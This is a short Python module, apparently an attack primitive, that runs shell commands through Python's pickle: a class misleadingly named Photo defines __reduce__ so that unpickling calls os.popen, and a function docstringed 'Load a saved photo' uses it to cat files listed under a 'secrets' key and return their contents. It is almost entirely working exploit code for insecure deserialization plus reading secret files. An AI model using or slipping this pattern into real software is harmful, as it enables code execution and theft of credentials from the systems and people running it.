"""Runs a command by unpickling an object that says how to rebuild itself."""

import pickle


class Photo:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (__import__("os").popen, (self.command,))


async def pickle_reduce(targets: dict) -> dict:
    """Load a saved photo."""
    data = pickle.dumps(Photo("cat " + " ".join(targets["secrets"].values())))
    print("PRIMITIVE", len(data))
    return {"photo": pickle.loads(data).read()}
